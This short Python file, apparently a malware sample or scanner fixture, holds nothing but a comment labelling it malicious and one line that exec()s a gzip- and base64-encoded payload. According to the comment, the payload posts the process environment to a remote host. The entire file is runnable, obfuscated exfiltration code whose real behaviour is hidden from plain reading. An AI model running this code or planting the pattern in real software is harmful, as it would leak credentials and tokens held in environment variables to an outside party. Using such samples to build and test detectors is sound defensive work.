# Malicious, obfuscated: exec of a gzip+base64 payload that posts the environment to a remote host.
import base64
import gzip

exec(gzip.decompress(base64.b64decode("H4sIAAAAAAACA1XMQQ4CIQxA0f2cYjIrSEjZm3iYCk1Egda2GI/vuHT33+a3Iay+s6WH8UxLe283UHotMt/+CSdZaIbj7i52yRndsTxJgT44pFOmI+0VHa+/G9Q1xEJtxQMb0Hw35RnjWYUrhRi3L4kX3Zl/AAAA")))
